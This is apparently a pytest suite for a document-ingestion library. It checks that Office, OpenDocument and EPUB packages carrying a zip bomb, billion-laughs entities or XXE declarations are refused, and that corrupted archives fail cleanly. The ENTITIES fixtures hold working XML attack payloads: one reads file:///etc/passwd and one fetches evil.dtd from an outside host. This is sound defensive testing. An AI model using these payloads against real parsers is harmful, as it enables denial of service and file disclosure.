"""Archives of XML: what is refused before a part is opened, and that damage is a verdict."""

import resource
import time
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest

from ingest.errors import UnreadableDocument
from ingest.formats.source import Source
from ingest.formats.xml_package import open_package, resolved
from storage.records import Verdict
from tests.ingest.made_docx import paragraph, raw_docx
from tests.ingest.made_packages import (
    made_epub,
    made_odf,
    made_pptx,
    made_xlsx,
    rows_xml,
    sheet_xml,
    slide_xml,
    text_shape,
)
from tests.ingest.reading_formats import lines, parsed, refusal

Make = Callable[[Path, str, str], Path]
LAUGHS = "".join(
    f'<!ENTITY l{n} "{"".join(f"&l{n - 1};" for _ in range(10)) if n else "ha"}">'
    for n in range(10)
)


def pptx(path: Path, text: str, before: str) -> Path:
    return made_pptx(path, [slide_xml(text_shape(text), before=before)])


def xlsx(path: Path, text: str, before: str) -> Path:
    return made_xlsx(path, {"S": sheet_xml(rows_xml([[text]]), before=before)})


def odt(path: Path, text: str, before: str) -> Path:
    return made_odf(path, "text", f"<text:p>{text}</text:p>", before=before)


def ods(path: Path, text: str, before: str) -> Path:
    row = f"<table:table-row><table:table-cell><text:p>{text}</text:p></table:table-cell>"
    body = f'<table:table table:name="S">{row}</table:table-row></table:table>'
    return made_odf(path, "spreadsheet", body, before=before)


def odp(path: Path, text: str, before: str) -> Path:
    box = f"<draw:text-box><text:p>{text}</text:p></draw:text-box>"
    body = f"<draw:page><draw:frame>{box}</draw:frame></draw:page>"
    return made_odf(path, "presentation", body, before=before)


def epub(path: Path, text: str, before: str) -> Path:
    return made_epub(path, {"a.xhtml": f"{before}<html><body><p>{text}</p></body></html>"})


def docx(path: Path, text: str, before: str) -> Path:
    return raw_docx(path, paragraph(text), before=before)


MAKERS = pytest.mark.parametrize(
    "make", [docx, pptx, xlsx, odt, ods, odp, epub], ids=lambda m: m.__name__
)
ENTITIES = {
    "laughs": (f"<!DOCTYPE x [{LAUGHS}]>", "&l9;"),
    "file": ('<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>', "&a;"),
    "network": ('<!DOCTYPE x [<!ENTITY % a SYSTEM "http://192.0.2.1/evil.dtd">%a;]>', "x"),
}


@MAKERS
def test_the_plain_file_is_read(tmp_path: Path, make: Make) -> None:
    assert lines(parsed(make(tmp_path / "a", "bonjour", "")))[-1][-1] == "bonjour"


@MAKERS
def test_a_bomb_is_refused_in_no_time_and_no_memory(tmp_path: Path, make: Make) -> None:
    path = make(tmp_path / "a", "x", "")
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as package:
        package.writestr("media/a.bin", b"\0" * (300 << 20))
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    started = time.monotonic()
    assert refusal(path).verdict is Verdict.TOO_LARGE
    assert time.monotonic() - started < 1
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 50 << 10


@MAKERS
@pytest.mark.parametrize(("declared", "text"), ENTITIES.values(), ids=ENTITIES)
def test_declared_entities_are_refused(
    tmp_path: Path, make: Make, declared: str, text: str
) -> None:
    assert refusal(make(tmp_path / "a", text, declared)).verdict is Verdict.DAMAGED


def test_a_document_type_alone_is_refused_in_office_files_only(tmp_path: Path) -> None:
    doctype = '<!DOCTYPE x PUBLIC "-//x" "http://192.0.2.1/x.dtd">'
    for make in (odt, ods, odp, epub):
        assert lines(parsed(make(tmp_path / "a", "bonjour", doctype)))[-1][-1] == "bonjour"
    for make in (pptx, xlsx):
        assert refusal(make(tmp_path / "a", "x", doctype)).verdict is Verdict.DAMAGED


@MAKERS
def test_flipped_bytes_give_text_or_a_verdict_and_nothing_else(tmp_path: Path, make: Make) -> None:
    whole = make(tmp_path / "a", "bonjour", "").read_bytes()
    for place in range(0, len(whole), max(1, len(whole) // 60)):
        flipped = bytearray(whole)
        flipped[place] ^= 0xFF
        (tmp_path / "b").write_bytes(flipped)
        try:
            parsed(tmp_path / "b")
        except UnreadableDocument as refused:
            assert refused.verdict in (
                Verdict.DAMAGED, Verdict.TOO_LARGE, Verdict.UNKNOWN_TYPE,
            )  # fmt: skip


@MAKERS
def test_parts_that_are_missing_or_empty_give_text_or_a_verdict(tmp_path: Path, make: Make) -> None:
    with zipfile.ZipFile(make(tmp_path / "a", "bonjour", "")) as whole:
        parts = {name: whole.read(name) for name in whole.namelist()}
    for gone in parts:
        for instead in (None, b"", b"<x/>", b"<x", b'<x:y xmlns:x="z"><a/></x:y>'):
            with zipfile.ZipFile(tmp_path / "b", "w") as package:
                for name, content in parts.items():
                    kept = content if name != gone else instead
                    if kept is not None:
                        package.writestr(name, kept)
            try:
                parsed(tmp_path / "b")
            except UnreadableDocument as refused:
                assert refused.verdict in (Verdict.DAMAGED, Verdict.UNKNOWN_TYPE)


def test_capitals_of_names_do_not_matter_and_links_outside_are_no_relations(
    tmp_path: Path,
) -> None:
    with zipfile.ZipFile(tmp_path / "a", "w") as package:
        package.writestr("Word/Document.xml", "<x/>")
        package.writestr(
            "Word/_rels/Document.xml.rels",
            '<r><r Id="1" Type="a/b" Target="../M.xml"/>'
            '<r Id="2" Type="a/b" Target="http://x" TargetMode="External"/></r>',
        )
    with open_package(Source.at(tmp_path / "a")) as package:
        assert package.root("word/document.xml") is not None
        assert package.root("gone.xml") is None
        assert package.related("word/document.xml", "b") == ["M.xml"]


@pytest.mark.parametrize(
    ("target", "name"),
    [("../x.xml", "x.xml"), ("/ppt/x.xml", "ppt/x.xml"), ("a%20b.xml#y", "ppt/a b.xml")],
)
def test_targets_are_resolved_from_the_part_they_stand_in(target: str, name: str) -> None:
    assert resolved("ppt/slide.xml", target) == name
